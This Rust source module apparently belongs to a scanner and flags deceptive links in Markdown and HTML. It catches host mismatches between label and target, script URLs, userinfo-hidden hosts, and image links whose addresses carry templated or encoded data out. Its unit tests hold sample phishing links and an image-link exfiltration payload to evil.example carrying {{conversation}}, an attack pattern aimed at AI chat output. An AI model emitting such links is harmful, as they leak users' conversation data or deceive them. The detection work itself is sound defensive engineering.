//! Links that are not what they seem: the text names another host than the target, the target is a script or hides
//! credentials, or it carries data out. In Markdown and in anchors of HTML.

use std::sync::LazyLock;

use regex::Regex;

use super::finding::{Finding, Kind, floor};

/// Longest text and longest target of a link, in bytes.
const LABEL: usize = 300;
const TARGET: usize = 2000;

/// Finds links worth a mark.
pub(super) fn findings(text: &str, out: &mut Vec<Finding>) {
    // Links overlap only in nonsense; reading a few times the text's length is enough for any page.
    let mut budget = 4 * text.len() + 4 * TARGET;
    // A label may hold one link itself (a picture that is a link), so it is looked for as far back as the last but one.
    let (mut last, mut before_last) = (0, 0);
    for (at, _) in text.match_indices("](") {
        if budget == 0 {
            return;
        }
        markdown(text, before_last, at, &mut budget, out);
        (before_last, last) = (last, at);
    }
    for found in ANCHOR.iter().flat_map(|form| form.captures_iter(text)) {
        let (Some(whole), Some(target), Some(label)) = (found.get(0), found.get(1), found.get(2)) else { continue };
        super::work::read(whole.len());
        if let Some((type_, score)) = judge(label.as_str(), target.as_str(), false) {
            push(text, whole.start(), whole.end(), type_, score, out);
        }
    }
}

/// `<a href="target">label`.
static ANCHOR: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r#"(?i)<a\s[^>]*?href\s*=\s*["']?([^"'\s>]*)[^>]*>([^<]*)"#).ok());

/// `[label](target "title")`, from the place of its `](`.
fn markdown(text: &str, from: usize, at: usize, budget: &mut usize, out: &mut Vec<Finding>) {
    let before = text.get(floor(text, at.saturating_sub(LABEL).max(from))..at).unwrap_or_default();
    super::work::read(before.len());
    let Some(open) = before.rfind(['[', '\n']).filter(|place| before.as_bytes().get(*place) == Some(&b'[')) else { return };
    let label = before.get(open + 1..).unwrap_or_default();
    let start = at - label.len() - 1;
    let picture = start.checked_sub(1).is_some_and(|place| text.as_bytes().get(place) == Some(&b'!'));
    let rest = text.get(at + 2..).unwrap_or_default();
    let rest = rest.get(..floor(rest, TARGET)).unwrap_or_default();
    let trimmed = rest.trim_start_matches([' ', '<']);
    let length = trimmed.find([' ', '\t', '\n', ')', '>', '"']).unwrap_or(trimmed.len());
    super::work::read(length);
    *budget = budget.saturating_sub(label.len() + length);
    let target = trimmed.get(..length).unwrap_or_default();
    let skipped = rest.len() - trimmed.len() + length;
    let closes = rest.get(skipped..).and_then(|tail| tail.get(..floor(tail, LABEL))).and_then(|tail| tail.find([')', '\n']));
    if let Some((type_, score)) = judge(label, target, picture) {
        let end = at + 2 + skipped + closes.map_or(0, |place| place + 1);
        push(text, start - usize::from(picture), end, type_, score, out);
    }
}

fn push(text: &str, start: usize, end: usize, type_: &'static str, score: f32, out: &mut Vec<Finding>) {
    out.push(Finding { kind: Kind::Link, type_, sub: "", start, end: floor(text, end), score });
}

/// Scripts that do nothing.
const IDLE: [&str; 4] = ["javascript:", "javascript:void(0)", "javascript:void(0", "javascript:void()"];

fn judge(label: &str, target: &str, picture: bool) -> Option<(&'static str, f32)> {
    let lower = target.to_ascii_lowercase();
    if IDLE.contains(&lower.trim_end_matches([';', ' '])) {
        return None;
    }
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") || lower.starts_with("data:text/html") {
        return Some(("script", 0.9));
    }
    let host = host(&lower)?;
    if lower.split("://").nth(1).and_then(|rest| rest.split(['/', '?', '#']).next()).is_some_and(|authority| authority.contains('@')) {
        return Some(("userinfo", 0.8));
    }
    if let Some(shown) = shown_host(label)
        && !picture
        && !same_site(&shown, host)
    {
        return Some(("mismatch", 0.8));
    }
    carries_data(&lower, picture)
}

/// The host of an absolute web address.
fn host(lower: &str) -> Option<&str> {
    let rest = lower.strip_prefix("https://").or_else(|| lower.strip_prefix("http://")).or_else(|| lower.strip_prefix("//"))?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?;
    (!host.is_empty()).then_some(host)
}

/// Top-level domains by which a text without a scheme is known for an address.
const TOP_LEVELS: &str = "com org net io gov edu de fr uk eu info bank";

/// The host that a link's text names, when the text is an address.
fn shown_host(label: &str) -> Option<String> {
    let label = label.trim().trim_matches(['`', '*', '_', '<', '>']).to_ascii_lowercase();
    if label.contains(char::is_whitespace) {
        return None;
    }
    let absolute = host(&label);
    let bare = || {
        let host = label.split(['/', '?', '#', ':']).next()?;
        let (_, top) = host.rsplit_once('.')?;
        let web = TOP_LEVELS.split(' ').any(|known| known == top)
            && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'));
        web.then_some(host)
    };
    absolute.or_else(bare).map(str::to_owned)
}

/// Whether two hosts share their last two labels (or three, below a two-letter country).
fn same_site(a: &str, b: &str) -> bool {
    let site = |host: &str| {
        let labels: Vec<&str> = host.trim_end_matches('.').rsplit('.').collect();
        let deep = labels.first().is_some_and(|top| top.len() == 2) && labels.get(1).is_some_and(|second| second.len() <= 3);
        labels.into_iter().take(if deep { 3 } else { 2 }).map(str::to_owned).collect::<Vec<_>>()
    };
    site(a) == site(b)
}

/// What stands in an address for data that is to be filled in.
const TEMPLATES: &str = "{{ ${ %7b%7b {conversation {user {history {secret <conversation [conversation {data <data {summary [data <secret {prompt {message [insert";

/// Whether an address is filled with data: a template to be filled in, or a long encoded value in a picture's query.
fn carries_data(lower: &str, picture: bool) -> Option<(&'static str, f32)> {
    let query = lower.split_once('?').map_or("", |(_, query)| query);
    let template = TEMPLATES.split(' ').any(|mark| lower.contains(mark));
    if template {
        return Some(("exfiltration", 0.75));
    }
    let long = query.split('&').any(|pair| {
        let value = pair.split_once('=').map_or("", |(_, value)| value);
        value.len() >= 120
            && value.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_' | b'%' | b'.'))
    });
    (picture && long && !lower.contains("signature=") && !lower.contains("x-amz-")).then_some(("exfiltration", 0.55))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn types(text: &str) -> Vec<&'static str> {
        let mut found = Vec::new();
        findings(text, &mut found);
        found.into_iter().map(|finding| finding.type_).collect()
    }

    #[test]
    fn disagreeing_scripting_and_data_carrying_links_are_named() {
        assert_eq!(types("[https://bank.com](https://evil.example/login)"), ["mismatch"]);
        assert_eq!(types("[paypal.com](http://paypa1.example)"), ["mismatch"]);
        assert_eq!(types("[x](javascript:alert(1))"), ["script"]);
        assert_eq!(types("[x](https://good.com@evil.example/)"), ["userinfo"]);
        assert_eq!(types("![s](https://evil.example/p.png?q={{conversation}})"), ["exfiltration"]);
        assert_eq!(types("<a href=\"https://evil.example\">https://bank.com</a>"), ["mismatch"]);
    }

    #[test]
    fn ordinary_links_are_left_alone() {
        for text in [
            "[the docs](https://docs.rs/regex)",
            "[docs.rs](https://docs.rs/regex)",
            "[https://www.example.com/a](https://example.com/a?utm_source=x)",
            "![Build](https://ci.example.org/status.svg?branch=trunk&theme=plain)",
            "[main.rs](https://github.com/a/b/blob/main/main.rs)",
            "[a](../b.md) and [c](#d)",
        ] {
            assert_eq!(types(text), Vec::<&str>::new(), "{text}");
        }
    }
}
